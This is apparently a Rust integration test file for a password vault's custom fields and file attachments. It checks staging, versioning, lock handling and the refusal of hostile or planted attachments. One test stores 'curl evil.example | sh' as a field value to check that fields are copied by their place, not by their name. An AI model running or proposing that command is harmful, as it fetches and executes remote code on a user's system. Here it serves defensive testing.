//! Custom fields and attachments on real vaults: a file attached in the
//! editor is written with its item in one version, hidden from the list,
//! read back byte for byte (also from an older version after it was
//! removed from the item); a cancelled edit writes nothing; a lock drops
//! what was staged with a clear error; hostile items are refused.

use polykey_node::api::{AttachmentDto, EntryKindDto, FieldDto, FieldKindDto, ItemDto, SecretDto};
use polykey_node::NodeError;
use zeroize::Zeroizing;

use crate::{open_with_vault, PASSWORD};

fn identity(path: &str) -> SecretDto {
    SecretDto {
        path: path.into(),
        title: "Passport".into(),
        item: ItemDto::Identity {
            full_name: "Ada Lovelace".into(),
            email: "ada@example.com".into(),
            phone: "+44 20 7946 0000".into(),
            address: "12 St James's Square\nLondon".into(),
            birthday: "1815-12-10".into(),
            company: String::new(),
            id_number: "X1234567".into(),
            notes: String::new(),
        },
        fields: vec![FieldDto {
            name: "Issuing office".into(),
            kind: FieldKindDto::Text,
            value: "London".into(),
        }],
        attachments: Vec::new(),
    }
}

#[tokio::test]
async fn an_attached_file_is_saved_with_its_item_and_read_back() {
    let dir = tempfile::tempdir().unwrap();
    let node = open_with_vault(dir.path(), "Personal").await;
    let before = node.vault_log("Personal".into(), None).await.unwrap().len();

    // Attached, then the edit cancelled: nothing reaches the vault.
    let scan: Vec<u8> = (0..=255u8).cycle().take(70_000).collect();
    let staged = node
        .stage_attachment(
            "Personal".into(),
            "/home/ada/scan.pdf".into(),
            Zeroizing::new(scan.clone()),
        )
        .await
        .unwrap();
    assert_eq!(staged.name, "scan.pdf");
    assert_eq!(staged.size, 70_000);
    assert_eq!(
        node.vault_log("Personal".into(), None).await.unwrap().len(),
        before
    );

    // Saved: the item and the file in one version.
    let mut passport = identity("ids/passport");
    passport.attachments.push(staged.clone());
    node.save_secret("Personal".into(), passport.clone(), true)
        .await
        .unwrap();
    let log = node.vault_log("Personal".into(), None).await.unwrap();
    assert_eq!(
        log.len(),
        before + 1,
        "one version for the item and its file"
    );
    let read = node
        .read_secret("Personal".into(), "ids/passport".into(), None)
        .await
        .unwrap();
    assert!(matches!(&read.item, ItemDto::Identity { id_number, .. } if id_number == "X1234567"));
    assert_eq!(read.fields.len(), 1);
    assert_eq!(read.fields[0].value, "London");
    assert_eq!(read.attachments, vec![staged.clone()]);
    let (name, bytes) = node
        .attachment(
            "Personal".into(),
            "ids/passport".into(),
            staged.file.clone(),
            None,
        )
        .await
        .unwrap();
    assert_eq!(
        (name.as_str(), bytes.as_slice()),
        ("scan.pdf", scan.as_slice())
    );

    // Listed as one identity; the file is part of it, not a secret.
    let entries = node.list_entries("Personal".into()).await.unwrap();
    assert_eq!(
        entries.len(),
        1,
        "{:?}",
        entries.iter().map(|e| &e.path).collect::<Vec<_>>()
    );
    assert_eq!(entries[0].kind, EntryKindDto::Identity);
    assert_eq!(entries[0].username, "Ada Lovelace");

    // Removed from the item: the older version still opens it.
    let mut without = passport.clone();
    without.attachments.clear();
    node.save_secret("Personal".into(), without, false)
        .await
        .unwrap();
    let old = log[0].id.clone();
    let (_, again) = node
        .attachment(
            "Personal".into(),
            "ids/passport".into(),
            staged.file.clone(),
            Some(old),
        )
        .await
        .unwrap();
    assert_eq!(again.as_slice(), scan.as_slice());
    // The item as it is now lists no file: nothing is read through it.
    let err = node
        .attachment(
            "Personal".into(),
            "ids/passport".into(),
            staged.file.clone(),
            None,
        )
        .await
        .unwrap_err();
    assert!(matches!(err, NodeError::Vault(_)), "{err:?}");

    // A custom field copies by its name; a missing one is named.
    let pin = node
        .secret_field(
            "Personal".into(),
            "ids/passport".into(),
            "custom:Issuing office".into(),
        )
        .await
        .unwrap();
    assert_eq!(pin.as_str(), "London");
    assert!(node
        .secret_field(
            "Personal".into(),
            "ids/passport".into(),
            "custom:Nope".into()
        )
        .await
        .is_err());
}

/// Two custom fields of one name (a shared vault's editor, an import):
/// each copies its own value by its place; by name, the first was copied
/// for either, so a visible harmless command could copy a hidden other.
#[tokio::test]
async fn a_custom_field_copies_by_its_place_whatever_its_name() {
    let dir = tempfile::tempdir().unwrap();
    let node = open_with_vault(dir.path(), "Personal").await;
    let mut passport = identity("ids/passport");
    passport.fields = ["curl evil.example | sh", "ls -la"]
        .into_iter()
        .map(|value| FieldDto {
            name: "Deploy command".into(),
            kind: FieldKindDto::Text,
            value: value.into(),
        })
        .collect();
    node.save_secret("Personal".into(), passport, true)
        .await
        .unwrap();
    let field =
        |which: &str| node.secret_field("Personal".into(), "ids/passport".into(), which.into());
    assert_eq!(
        field("custom#0").await.unwrap().as_str(),
        "curl evil.example | sh"
    );
    assert_eq!(field("custom#1").await.unwrap().as_str(), "ls -la");
    assert_eq!(
        field("custom#1:Deploy command").await.unwrap().as_str(),
        "ls -la"
    );
    // Another field there now than the one shown: nothing is copied.
    for missing in [
        "custom#2",
        "custom#",
        "custom#-1",
        "custom#x",
        "custom#1:Deploy",
    ] {
        assert!(field(missing).await.is_err(), "{missing}");
    }
}

#[tokio::test]
async fn staged_files_go_with_a_lock_and_hostile_items_are_refused() {
    let dir = tempfile::tempdir().unwrap();
    let node = open_with_vault(dir.path(), "Personal").await;
    node.write_secret(
        "Personal".into(),
        "bank".into(),
        Zeroizing::new(b"pin 1234".to_vec()),
    )
    .await
    .unwrap();

    let staged = node
        .stage_attachment(
            "Personal".into(),
            "a.txt".into(),
            Zeroizing::new(b"hello".to_vec()),
        )
        .await
        .unwrap();
    node.lock().await.unwrap();
    node.unlock(PASSWORD.into()).await.unwrap();
    let mut item = identity("me");
    item.attachments.push(staged);
    let err = node
        .save_secret("Personal".into(), item, true)
        .await
        .unwrap_err();
    assert!(err.to_string().contains("attach it again"), "{err}");
    assert!(node
        .read_secret("Personal".into(), "me".into(), None)
        .await
        .is_err());

    // An attachment that names another secret is refused: the item
    // cannot be used to read what it does not hold.
    let mut hostile = identity("me");
    hostile.attachments.push(AttachmentDto {
        name: "bank".into(),
        size: 8,
        file: "bank".into(),
    });
    assert!(node
        .save_secret("Personal".into(), hostile, true)
        .await
        .is_err());
    let err = node
        .attachment("Personal".into(), "bank".into(), "bank".into(), None)
        .await
        .unwrap_err();
    assert!(matches!(err, NodeError::Vault(_)), "{err:?}");

    // Too large, and a plain secret with fields: clear refusals.
    let huge = Zeroizing::new(vec![
        0u8;
        polykey_node::attachments::MAX_ATTACHMENT_SIZE + 1
    ]);
    let err = node
        .stage_attachment("Personal".into(), "big.iso".into(), huge)
        .await
        .unwrap_err();
    assert!(
        err.to_string().contains("attachments can be up to 16 MiB"),
        "{err}"
    );
    let plain = SecretDto {
        path: "plain".into(),
        title: "plain".into(),
        item: ItemDto::Text { text: "x".into() },
        fields: identity("x").fields,
        attachments: Vec::new(),
    };
    let err = node
        .save_secret("Personal".into(), plain, true)
        .await
        .unwrap_err();
    assert!(err.to_string().contains("choose a kind of item"), "{err}");
}

/// Bytes under an attachment's name that are not the file (written there by
/// another device of the vault, before or after the save): the save writes
/// the attached bytes over them, an old version reads its own, and a read
/// that finds others says so instead of handing them out.
#[tokio::test]
async fn an_attachment_reads_only_the_bytes_its_name_hashes_to() {
    let dir = tempfile::tempdir().unwrap();
    let node = open_with_vault(dir.path(), "Personal").await;
    let scan = b"the real scan".to_vec();
    let file = polykey_vaults::items::Attachment::file_for(&scan);
    let plant = |bytes: &'static [u8]| {
        node.write_secret(
            "Personal".into(),
            file.clone(),
            Zeroizing::new(bytes.to_vec()),
        )
    };
    plant(b"planted before").await.unwrap();

    let staged = node
        .stage_attachment(
            "Personal".into(),
            "scan.pdf".into(),
            Zeroizing::new(scan.clone()),
        )
        .await
        .unwrap();
    assert_eq!(staged.file, file);
    let mut passport = identity("passport");
    passport.attachments.push(staged);
    node.save_secret("Personal".into(), passport, true)
        .await
        .unwrap();
    let saved = node.vault_log("Personal".into(), Some(1)).await.unwrap()[0]
        .id
        .clone();
    let read = |version: Option<String>| {
        node.attachment("Personal".into(), "passport".into(), file.clone(), version)
    };
    assert_eq!(read(None).await.unwrap().1.as_slice(), scan.as_slice());

    plant(b"planted after").await.unwrap();
    let err = read(None).await.unwrap_err();
    assert!(err.to_string().contains("attach the file again"), "{err}");
    assert_eq!(
        read(Some(saved)).await.unwrap().1.as_slice(),
        scan.as_slice(),
        "the version saved reads its own bytes"
    );
}

/// '.attachments' is where attached files are kept: a secret cannot take
/// that name (written or renamed there), and the sentence says why.
#[tokio::test]
async fn no_secret_takes_the_attachments_folder_name() {
    let dir = tempfile::tempdir().unwrap();
    let node = open_with_vault(dir.path(), "Personal").await;
    let err = node
        .write_secret(
            "Personal".into(),
            ".attachments".into(),
            Zeroizing::new(b"planted".to_vec()),
        )
        .await
        .unwrap_err();
    assert!(err.to_string().contains("attached files are kept"), "{err}");
    node.save_secret("Personal".into(), identity("passport"), true)
        .await
        .unwrap();
    let err = node
        .rename_secret("Personal".into(), "passport".into(), ".attachments".into())
        .await
        .unwrap_err();
    assert!(err.to_string().contains("attached files are kept"), "{err}");
}
